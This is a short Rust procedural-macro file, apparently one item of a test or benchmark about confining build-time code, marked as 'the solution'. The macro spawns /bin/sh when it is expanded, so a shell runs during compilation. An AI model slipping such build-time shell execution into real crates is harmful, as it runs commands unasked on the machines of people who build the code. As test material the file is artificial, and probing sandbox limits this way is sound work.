//! row: 18
//! confined
//! whole
//! earns: nothing
//! says: only usable with crates of the `proc-macro` crate type
#![crate_type = "proc-macro"]
extern crate proc_macro;

#[proc_macro]
pub fn run(_: proc_macro::TokenStream) -> proc_macro::TokenStream {
    std::process::Command::new("/bin/sh").spawn().unwrap();
    proc_macro::TokenStream::new()
}
// the solution
